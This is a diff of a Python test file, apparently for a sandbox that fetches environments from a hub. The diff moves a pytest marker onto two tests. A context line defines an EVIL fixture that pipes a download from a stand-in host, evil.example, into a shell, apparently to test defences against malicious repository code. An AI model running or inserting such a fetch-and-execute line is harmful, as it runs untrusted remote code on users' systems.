@@ -26,8 +26,6 @@ from envhub_sandbox.system.folders import remove_tree
 from tests.hub.stub_hub import StubHub, StubRepository
 from tests.integration.hub.conftest import Fetch
 
-pytestmark = pytest.mark.short
-
 _MIB = 1 << 20
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
@@ -47,6 +45,7 @@ def requests_for_files(stub_hub: StubHub) -> list[str]:
     return [request for request in stub_hub.requests if "/resolve/" in request]
 
 
+@pytest.mark.short
 @pytest.mark.parametrize(
     ("where", "path", "lie"),
     [
@@ -316,6 +315,7 @@ def test_names_that_differ_little_are_different_files(
     assert len([request for request in stub_hub.requests if "/tree/" in request]) == 1
 
 
+@pytest.mark.short
 @pytest.mark.parametrize("what", ["/revision/", "/resolve/", "nothing listens"])
 def test_secrets_are_in_no_traceback(
     stub_hub: StubHub,
